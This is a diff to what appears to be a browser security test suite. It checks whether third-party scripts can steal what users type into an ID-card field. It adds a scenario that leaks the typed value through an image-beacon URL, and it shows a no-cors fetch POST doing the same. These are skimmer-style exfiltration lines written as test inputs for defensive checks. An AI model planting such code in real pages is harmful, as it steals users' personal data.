@@ -30,8 +30,10 @@ const reader = (
   id,
   what,
   pages: ({ third }) => ({ 'site /': STEPS(third), 'third /t.js': script(third) }),
-  type: typed,
   send: async (tab) => {
+    // As quick as people are: one who types eighteen keys at once is a program.
+    await tab.click('[name=idcard]');
+    await tab.page.keyboard.type(ID, { delay: 40 });
     await tab.press('Tab');
     await tab.press('Tab');
   },
@@ -63,6 +65,12 @@ const READERS: readonly Scenario[] = [
       (url) => `fetch('${url}/f', { method: 'POST', body: value, keepalive: true, mode: 'no-cors' }).catch(() => null)`,
     ),
     { expected: 'held', row: { channel: 'fetch' } },
+  ),
+  reader(
+    '48d',
+    'The same on input, with an image: sent in the very moment of the last key.',
+    READS('input', (url) => `new Image().src = '${url}/p.gif?v=' + value`),
+    { expected: BY_BROWSER, row: { channel: 'image' } },
   ),
 ];
 
@@ -129,8 +137,8 @@ await new Promise((done) => { source.onopen = source.onerror = done; }); source.
     type: typed,
     send: '#send',
     expected: BY_BROWSER,
-    row: { channel: 'stream' },
-    note: 'Chromium lets nobody but a page’s own script stand before a constructor: decision 0013.',
+    row: (browser, mode) => ({ channel: browser === 'firefox' && mode === 'refused' ? 'fetch' : 'stream' }),
+    note: 'Chromium lets nobody but a page’s own script stand before a constructor: decision 0013. That it is an EventSource only its headers tell, and one that is refused never had any: it is on the record as a fetch.',
   },
   {
     ...third,
